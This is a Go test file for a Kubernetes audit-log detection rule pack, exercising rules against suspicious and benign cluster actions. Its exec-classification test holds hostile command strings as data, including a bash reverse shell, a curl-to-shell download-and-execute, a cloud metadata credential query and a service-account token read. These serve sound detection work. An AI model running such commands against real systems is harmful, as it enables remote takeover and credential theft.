package detect

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	utilrand "k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"

	"github.com/kdfir/kdfir/internal/alert"
	"github.com/kdfir/kdfir/internal/audit"
	"github.com/kdfir/kdfir/internal/testenv"
)

// headers is a client of the kit whose requests carry extra headers
// (X-Forwarded-For, which the API server records in sourceIPs) and a
// User-Agent that starts with prefix and still names the kit.
func (k *kit) headers(cfg *rest.Config, prefix string, h map[string]string) kubernetes.Interface {
	c := k.as(cfg)
	if prefix != "" {
		c.UserAgent = prefix + " " + k.ua
	}
	c.Wrap(func(rt http.RoundTripper) http.RoundTripper {
		return roundTripFunc(func(r *http.Request) (*http.Response, error) {
			r = r.Clone(r.Context())
			for key, v := range h {
				r.Header.Set(key, v)
			}
			return rt.RoundTrip(r)
		})
	})
	return kubernetes.NewForConfigOrDie(c)
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// listPodsWith lists the kit's pods with a User-Agent that starts with ua.
func (k *kit) listPodsWith(ua string) {
	k.t.Helper()
	_, err := k.headers(k.env.Config, ua, nil).CoreV1().Pods(k.ns).List(ctx, metav1.ListOptions{})
	k.must(err)
}

// listPodsAsSystem lists the kit's pods as a new kube-system
// ServiceAccount, through a proxy that says the client is at ip.
func (k *kit) listPodsAsSystem(ip string) {
	k.t.Helper()
	u, err := k.env.NewUser(ctx, "kube-system", "kdfir-test-"+utilrand.String(5), "view")
	k.must(err)
	_, err = k.headers(u.Config, "", map[string]string{"X-Forwarded-For": ip}).CoreV1().Pods(k.ns).List(ctx, metav1.ListOptions{})
	k.must(err)
}

// patchClusterRole has the harness create a ClusterRole, which the kit
// then patches to read secrets.
func (k *kit) patchClusterRole(name string) {
	k.t.Helper()
	_, err := k.env.Client.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
	k.must(err)
	k.t.Cleanup(func() { _ = k.env.Client.RbacV1().ClusterRoles().Delete(ctx, name, metav1.DeleteOptions{}) })
	_, err = k.cs.RbacV1().ClusterRoles().Patch(ctx, name, types.MergePatchType, []byte(`{"rules":[{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}]}`), metav1.PatchOptions{})
	k.must(err)
}

func (k *kit) role(name string, rules ...rbacv1.PolicyRule) {
	k.t.Helper()
	_, err := k.cs.RbacV1().Roles(k.ns).Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules}, metav1.CreateOptions{})
	k.must(err)
}

func rule(resources []string, verbs ...string) rbacv1.PolicyRule {
	return rbacv1.PolicyRule{APIGroups: []string{""}, Resources: resources, Verbs: verbs}
}

func (k *kit) exec(cmd ...string) {
	k.t.Helper()
	k.runningPod("target")
	if _, _, err := testenv.Exec(ctx, k.cfg, k.ns, "target", "app", cmd...); err != nil {
		k.t.Logf("exec %v: %v (the audit event is what counts)", cmd, err)
	}
}

func (k *kit) configMapData(ns, name string, data map[string]string) {
	k.t.Helper()
	_, err := k.cs.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: name}, Data: data}, metav1.CreateOptions{})
	k.must(err)
	if ns != k.ns {
		k.t.Cleanup(func() { _ = k.env.Client.CoreV1().ConfigMaps(ns).Delete(ctx, name, metav1.DeleteOptions{}) })
	}
}

// nsUser is a ServiceAccount of the kit's namespace with no permissions.
func (k *kit) nsUser(name string, clusterRoles ...string) *rest.Config {
	k.t.Helper()
	u, err := k.env.NewUser(ctx, k.ns, name, clusterRoles...)
	k.must(err)
	return u.Config
}

func (k *kit) ingress(tls bool) {
	k.t.Helper()
	ing := &networkingv1.Ingress{ObjectMeta: metav1.ObjectMeta{Name: "web"}, Spec: networkingv1.IngressSpec{
		Rules: []networkingv1.IngressRule{{Host: "shop.example.com", IngressRuleValue: networkingv1.IngressRuleValue{HTTP: &networkingv1.HTTPIngressRuleValue{
			Paths: []networkingv1.HTTPIngressPath{{Path: "/", PathType: ptr.To(networkingv1.PathTypePrefix), Backend: networkingv1.IngressBackend{
				Service: &networkingv1.IngressServiceBackend{Name: "web", Port: networkingv1.ServiceBackendPort{Number: 80}}}}}}}}}}}
	if tls {
		ing.Spec.TLS = []networkingv1.IngressTLS{{Hosts: []string{"shop.example.com"}, SecretName: "web-tls"}}
	}
	_, err := k.cs.NetworkingV1().Ingresses(k.ns).Create(ctx, ing, metav1.CreateOptions{})
	k.must(err)
}

func (k *kit) secrets(n int) {
	k.t.Helper()
	for i := range n {
		name := fmt.Sprintf("s%d", i)
		_, err := k.env.Client.CoreV1().Secrets(k.ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name}, StringData: map[string]string{"k": "v"}}, metav1.CreateOptions{})
		k.must(err)
		_, err = k.cs.CoreV1().Secrets(k.ns).Get(ctx, name, metav1.GetOptions{})
		k.must(err)
	}
}

// nodeUser is a kubelet's identity (system:node:NAME in system:nodes),
// through the API server's front proxy, allowed to create pods.
func (k *kit) nodeUser() kubernetes.Interface {
	k.t.Helper()
	user := "system:node:" + k.env.Node
	name := "kdfir-test-node-" + k.ns
	_, err := k.env.Client.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects: []rbacv1.Subject{{Kind: "User", APIGroup: "rbac.authorization.k8s.io", Name: user}}}, metav1.CreateOptions{})
	if err != nil && !apierrors.IsAlreadyExists(err) {
		k.t.Fatal(err)
	}
	k.t.Cleanup(func() { _ = k.env.Client.RbacV1().ClusterRoleBindings().Delete(ctx, name, metav1.DeleteOptions{}) })
	return k.clientFor(k.env.EntraConfig(user, "", "system:nodes"))
}

func (k *kit) mirrorPod(cs kubernetes.Interface, ns string) {
	k.t.Helper()
	name := "static-" + utilrand.String(5)
	spec := podSpec("registry.k8s.io/pause:3.10")
	spec.NodeName = k.env.Node
	_, err := cs.CoreV1().Pods(ns).Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name,
		Annotations: map[string]string{"kubernetes.io/config.mirror": "abc123", "kubernetes.io/config.source": "file"}}, Spec: spec}, metav1.CreateOptions{})
	k.must(err)
	k.t.Cleanup(func() {
		_ = k.env.Client.CoreV1().Pods(ns).Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)})
	})
}

func moreRuleCases() []ruleCase {
	tpl := func(mutate func(*corev1.PodSpec)) corev1.PodTemplateSpec {
		s := podSpec("registry.k8s.io/pause:3.10")
		if mutate != nil {
			mutate(&s)
		}
		return corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "x"}}, Spec: s}
	}
	return []ruleCase{
		{rule: "k8s-exec-copy-from-pod",
			pos: func(k *kit) { k.exec("tar", "cf", "-", "etc/hostname") },
			neg: func(k *kit) { k.exec("cat", "etc/hostname") },
			check: func(t *testing.T, alerts []*alert.Alert) {
				if alerts[0].Fields["Path"] != "etc/hostname" {
					t.Errorf("copied path %v", alerts[0].Fields["Path"])
				}
			}},
		{rule: "k8s-role-grants-exec",
			pos: func(k *kit) { k.role("debugger", rule([]string{"pods"}, "get"), rule([]string{"pods/exec"}, "create")) },
			neg: func(k *kit) { k.role("reader", rule([]string{"pods", "pods/log"}, "get", "list")) }},
		{rule: "k8s-role-grants-node-proxy",
			pos: func(k *kit) { k.role("kubelet-api", rule([]string{"nodes/proxy"}, "get")) },
			neg: func(k *kit) { k.role("node-reader", rule([]string{"nodes", "nodes/status"}, "get")) }},
		{rule: "k8s-role-write-privileges",
			pos: func(k *kit) {
				k.role("deployer", rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get", "create", "patch"}})
			},
			neg: func(k *kit) { k.role("viewer", rule([]string{"pods", "services"}, "get", "list", "watch")) }},
		{rule: "k8s-system-role-modified",
			pos: func(k *kit) { k.patchClusterRole("system:kdfir-test-" + k.ns) },
			neg: func(k *kit) { k.patchClusterRole("kdfir-test-" + k.ns) }},
		// The test server logs ConfigMaps at Metadata level (no data), as
		// many clusters do; Falco's recorded events have the data.
		{rule: "k8s-configmap-credentials",
			fixtures: &[2]string{"falco-k8s-audit/create_configmap_sensitive_values.json", "falco-k8s-audit/create_configmap_no_sensitive_values.json"}},
		{rule: "k8s-serviceaccount-in-system-namespace",
			pos: func(k *kit) {
				name := "kdfir-test-" + utilrand.String(5)
				_, err := k.cs.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
				k.must(err)
				k.t.Cleanup(func() {
					_ = k.env.Client.CoreV1().ServiceAccounts("kube-system").Delete(ctx, name, metav1.DeleteOptions{})
				})
			},
			neg: func(k *kit) { k.serviceAccount("robot") }},
		{rule: "k8s-serviceaccount-created",
			pos: func(k *kit) { k.serviceAccount("robot") },
			neg: func(k *kit) { k.configMap() }},
		{rule: "k8s-secret-access-denied",
			pos: func(k *kit) {
				_, err := k.clientFor(k.env.ConfigFor(testenv.NobodyToken)).CoreV1().Secrets(k.ns).Get(ctx, "creds", metav1.GetOptions{})
				if !apierrors.IsForbidden(err) {
					k.t.Fatalf("nobody get secret: %v, want forbidden", err)
				}
			},
			neg: func(k *kit) {
				_, err := k.clientFor(k.env.ConfigFor(testenv.NobodyToken)).CoreV1().ConfigMaps(k.ns).Get(ctx, "cm", metav1.GetOptions{})
				if !apierrors.IsForbidden(err) {
					k.t.Fatalf("nobody get configmap: %v, want forbidden", err)
				}
			}},
		{rule: "k8s-ingress-without-tls", pos: func(k *kit) { k.ingress(false) }, neg: func(k *kit) { k.ingress(true) }},
		{rule: "k8s-node-created",
			pos: func(k *kit) {
				name := "kdfir-test-" + utilrand.String(5)
				_, err := k.cs.CoreV1().Nodes().Create(ctx, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name},
					Spec: corev1.NodeSpec{Taints: []corev1.Taint{{Key: "kdfir-test", Effect: corev1.TaintEffectNoExecute}}, Unschedulable: true}}, metav1.CreateOptions{})
				k.must(err)
				k.must(k.env.Client.CoreV1().Nodes().Delete(ctx, name, metav1.DeleteOptions{}))
			},
			neg: func(k *kit) { _, err := k.cs.CoreV1().Nodes().Get(ctx, k.env.Node, metav1.GetOptions{}); k.must(err) }},
		{rule: "k8s-cronjob-or-job-written",
			pos: func(k *kit) {
				t := tpl(func(s *corev1.PodSpec) { s.RestartPolicy = corev1.RestartPolicyNever })
				_, err := k.cs.BatchV1().CronJobs(k.ns).Create(ctx, &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "nightly"},
					Spec: batchv1.CronJobSpec{Schedule: "0 3 * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: t}}}}, metav1.CreateOptions{})
				k.must(err)
			},
			neg: func(k *kit) { k.deployment("web", nil) }},
		{rule: "k8s-daemonset-created",
			pos: func(k *kit) {
				_, err := k.cs.AppsV1().DaemonSets(k.ns).Create(ctx, &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "agent"},
					Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "x"}}, Template: tpl(nil)}}, metav1.CreateOptions{})
				k.must(err)
			},
			neg: func(k *kit) { k.deployment("web", nil) }},
		{rule: "k8s-deployment-deleted",
			pos: func(k *kit) {
				k.deployment("web", nil)
				k.must(k.cs.AppsV1().Deployments(k.ns).Delete(ctx, "web", metav1.DeleteOptions{}))
			},
			neg: func(k *kit) {
				k.deployment("web", nil)
				_, err := k.cs.AppsV1().Deployments(k.ns).Patch(ctx, "web", types.MergePatchType, []byte(`{"spec":{"replicas":0}}`), metav1.PatchOptions{})
				k.must(err)
			}},
		{rule: "k8s-permission-enumeration",
			pos: func(k *kit) {
				_, err := k.cs.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: k.ns}}, metav1.CreateOptions{})
				k.must(err)
			},
			// A person asking about one permission (kubectl auth can-i).
			neg: func(k *kit) {
				_, err := k.cs.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{
					ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: k.ns, Verb: "get", Resource: "pods"}}}, metav1.CreateOptions{})
				k.must(err)
			}},
		{rule: "k8s-secret-modified-or-deleted",
			pos: func(k *kit) {
				k.secret(k.ns)
				k.must(k.cs.CoreV1().Secrets(k.ns).Delete(ctx, "creds", metav1.DeleteOptions{}))
			},
			neg: func(k *kit) {
				_, err := k.cs.CoreV1().Secrets(k.ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "new"}, StringData: map[string]string{"k": "v"}}, metav1.CreateOptions{})
				k.must(err)
			}},
		{rule: "k8s-sidecar-injected",
			pos: func(k *kit) {
				k.deployment("web", nil)
				_, err := k.cs.AppsV1().Deployments(k.ns).Patch(ctx, "web", types.StrategicMergePatchType,
					[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"side","image":"busybox:1.36","command":["sleep","3600"]}]}}}}`), metav1.PatchOptions{})
				k.must(err)
			},
			neg: func(k *kit) {
				k.deployment("web", nil)
				_, err := k.cs.AppsV1().Deployments(k.ns).Patch(ctx, "web", types.StrategicMergePatchType, []byte(`{"spec":{"replicas":2}}`), metav1.PatchOptions{})
				k.must(err)
			}},
		{rule: "k8s-scanner-user-agent",
			pos: func(k *kit) { k.listPodsWith("kube-hunter/0.6.8") },
			neg: func(k *kit) { k.listPodsWith("kubectl/v1.32.4") }},
		{rule: "k8s-rolebinding-written",
			pos: func(k *kit) {
				_, err := k.cs.RbacV1().RoleBindings(k.ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "view"},
					RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "view"},
					Subjects: []rbacv1.Subject{{Kind: "User", APIGroup: "rbac.authorization.k8s.io", Name: "alice"}}}, metav1.CreateOptions{})
				k.must(err)
			},
			neg: func(k *kit) { k.role("reader", rule([]string{"pods"}, "get")) }},
		{rule: "k8s-system-principal-public-ip",
			pos: func(k *kit) { k.listPodsAsSystem("203.0.113.7") },
			neg: func(k *kit) { k.listPodsAsSystem("10.1.2.3") }},
		{rule: "k8s-http-client-user-agent",
			pos: func(k *kit) { k.listPodsWith("curl/8.5.0") },
			neg: func(k *kit) { k.listPodsWith("kubectl/v1.32.4") }},
		{rule: "k8s-serviceaccount-denied",
			pos: func(k *kit) {
				_, err := k.clientFor(k.nsUser("app")).CoreV1().Secrets(k.ns).List(ctx, metav1.ListOptions{})
				if !apierrors.IsForbidden(err) {
					k.t.Fatalf("list secrets: %v, want forbidden", err)
				}
			},
			neg: func(k *kit) {
				_, err := k.clientFor(k.nsUser("app")).CoreV1().ConfigMaps(k.ns).Get(ctx, "settings", metav1.GetOptions{})
				if !apierrors.IsForbidden(err) {
					k.t.Fatalf("get configmap: %v, want forbidden", err)
				}
			}},
		{rule: "k8s-cluster-dns-or-auth-config-changed",
			pos: func(k *kit) {
				k.configMapData("kube-system", "aws-auth", map[string]string{"mapRoles": "- rolearn: arn:aws:iam::111122223333:role/x\n  groups: [system:masters]\n"})
			},
			neg: func(k *kit) {
				k.configMapData("kube-system", "kdfir-test-"+utilrand.String(5), map[string]string{"k": "v"})
			}},
		{rule: "k8s-static-pod-created",
			pos: func(k *kit) { k.mirrorPod(k.nodeUser(), k.ns) },
			neg: func(k *kit) { k.mirrorPod(k.nodeUser(), "kube-system") }},
		{rule: "k8s-csr-created",
			pos: func(k *kit) { k.csr() },
			// Near miss: a CSR for a signer of the user's own, not the API server's client signer.
			neg: func(k *kit) { k.csrWith(k.ns+"-csr-other", "example.com/internal-ca") }},
		{rule: "k8s-secret-read-burst",
			pos: func(k *kit) { k.secrets(12) },
			neg: func(k *kit) { k.secrets(3) }},
	}
}

// TestExecClassification runs the exec rule on exec events with each class
// of command: the class and the raised severity show on the alert.
func TestExecClassification(t *testing.T) {
	r := builtinByID(t)["k8s-exec-into-pod"]
	for cmd, want := range map[string][2]string{
		"sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1":                {"reverse shell", "critical"},
		"sh -c curl -fsSL http://203.0.113.7/x.sh | sh":                  {"download and execute", "critical"},
		"curl http://169.254.169.254/latest/meta-data/iam/":              {"cloud metadata", "high"},
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token":        {"sensitive file", "high"},
		"sh -c apt-get install -y nmap":                                  {"package manager", "high"},
		"ls /app":                                                        {"", "medium"},
		"sh -c curl -o /tmp/report.json http://reports.internal/summary": {"", "medium"},
	} {
		q := ""
		for _, part := range strings.SplitN(cmd, " ", 3) {
			q += "&command=" + url.QueryEscape(part)
		}
		raw := `{"kind":"Event","auditID":"x","stage":"ResponseStarted","verb":"get","stageTimestamp":"2025-01-01T00:00:00Z",` +
			`"requestURI":"/api/v1/namespaces/shop/pods/web/exec?container=app` + q + `",` +
			`"user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"},"responseStatus":{"code":101}}`
		e, err := audit.ParseEvent([]byte(raw))
		if err != nil {
			t.Fatal(err)
		}
		alerts := evaluate(t, r, []audit.Event{e})
		if len(alerts) != 1 || alerts[0].Fields["Class"] != want[0] || alerts[0].Severity != want[1] {
			var got any = alerts
			if len(alerts) == 1 {
				got = [2]any{alerts[0].Fields["Class"], alerts[0].Severity}
			}
			t.Errorf("%q: got %v, want %v", cmd, got, want)
		}
	}
}

// TestExecResponseCodes: every exec alerts whatever the code (101 over
// WebSocket or SPDY, 200 from EKS and kubectl cp, none at RequestReceived),
// except a refusal.
func TestExecResponseCodes(t *testing.T) {
	r := builtinByID(t)["k8s-exec-into-pod"]
	for status, want := range map[string]int{`"responseStatus":{"code":101},`: 1, `"responseStatus":{"code":200},`: 1, ``: 1, `"responseStatus":{"code":403},`: 0} {
		raw := `{"kind":"Event","auditID":"x","stage":"ResponseComplete","verb":"create",` + status + `"stageTimestamp":"2025-01-01T00:00:00Z",` +
			`"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=id","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"}}`
		e, err := audit.ParseEvent([]byte(raw))
		if err != nil {
			t.Fatal(err)
		}
		if got := len(evaluate(t, r, []audit.Event{e})); got != want {
			t.Errorf("%q: %d alerts, want %d", status, got, want)
		}
	}
}

// TestRulesMappedToATTACK: every rule names tactics and techniques of
// MITRE ATT&CK for Containers.
func TestRulesMappedToATTACK(t *testing.T) {
	tactics := map[string]bool{"Initial Access": true, "Execution": true, "Persistence": true, "Privilege Escalation": true,
		"Defense Evasion": true, "Credential Access": true, "Discovery": true, "Lateral Movement": true, "Impact": true}
	// Techniques of the Containers matrix (ATT&CK v15), with the
	// sub-techniques the pack uses.
	techniques := map[string]bool{"T1610": true, "T1609": true, "T1611": true, "T1612": true, "T1613": true, "T1078": true,
		"T1078.001": true, "T1133": true, "T1190": true, "T1053.007": true, "T1098": true, "T1136": true, "T1525": true,
		"T1068": true, "T1036.005": true, "T1070": true, "T1562": true, "T1550.001": true, "T1552.007": true, "T1528": true,
		"T1110": true, "T1046": true, "T1485": true, "T1496": true, "T1498": true, "T1499": true, "T1204.003": true}
	rules, err := Builtin(nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) < 45 {
		t.Errorf("%d rules in the pack, want at least 45", len(rules))
	}
	for _, r := range rules {
		if len(r.Tactics) == 0 || len(r.Techniques) == 0 {
			t.Errorf("%s: no tactics or techniques", r.ID)
		}
		for _, x := range r.Tactics {
			if !tactics[x] {
				t.Errorf("%s: tactic %q is not in ATT&CK for Containers", r.ID, x)
			}
		}
		for _, x := range r.Techniques {
			if !techniques[x] {
				t.Errorf("%s: technique %q is not in ATT&CK for Containers", r.ID, x)
			}
		}
	}
}
